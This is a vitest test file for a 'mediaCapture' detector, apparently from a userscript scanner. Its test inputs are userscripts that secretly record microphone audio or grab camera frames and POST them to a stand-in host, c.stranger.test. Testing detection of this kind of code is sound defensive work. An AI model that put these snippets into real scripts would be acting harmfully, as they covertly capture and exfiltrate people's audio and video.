import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { mediaCapture } from "./media-capture.ts";

describe("media-capture", () => {
	test.each([
		[
			"the microphone, by itself",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`navigator.mediaDevices.getUserMedia({audio:true}).then(s=>{const r=new MediaRecorder(s);r.ondataavailable=e=>fetch("https://c.stranger.test/",{method:"POST",body:e.data});r.start()})`,
			),
		],
		...[
			`v.srcObject=s`,
			`v.src=URL.createObjectURL(s)`,
			`const u=window.URL||window.webkitURL;v.setAttribute("src",u.createObjectURL(s))`,
		].map((show): [string, string[], string] => [
			`pictures of the camera: ${show}`,
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`navigator.mediaDevices.getUserMedia({video:true}).then(s=>{const v=document.createElement("video"),c=document.createElement("canvas");${show};c.getContext("2d").drawImage(v,0,0);fetch("https://c.stranger.test/",{method:"POST",body:c.toDataURL()})})`,
			),
		]),
	])("finds %s", (_title, expected, code) => {
		expect(findIn(mediaCapture, code)).toEqual(expected);
	});

	test.each([
		[
			"a mirror",
			userscript(
				["match https://shop.example/*"],
				`navigator.mediaDevices.getUserMedia({video:true}).then(s=>{const v=document.createElement("video");v.srcObject=s;document.body.append(v)})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(mediaCapture, code)).toEqual([]);
	});
});
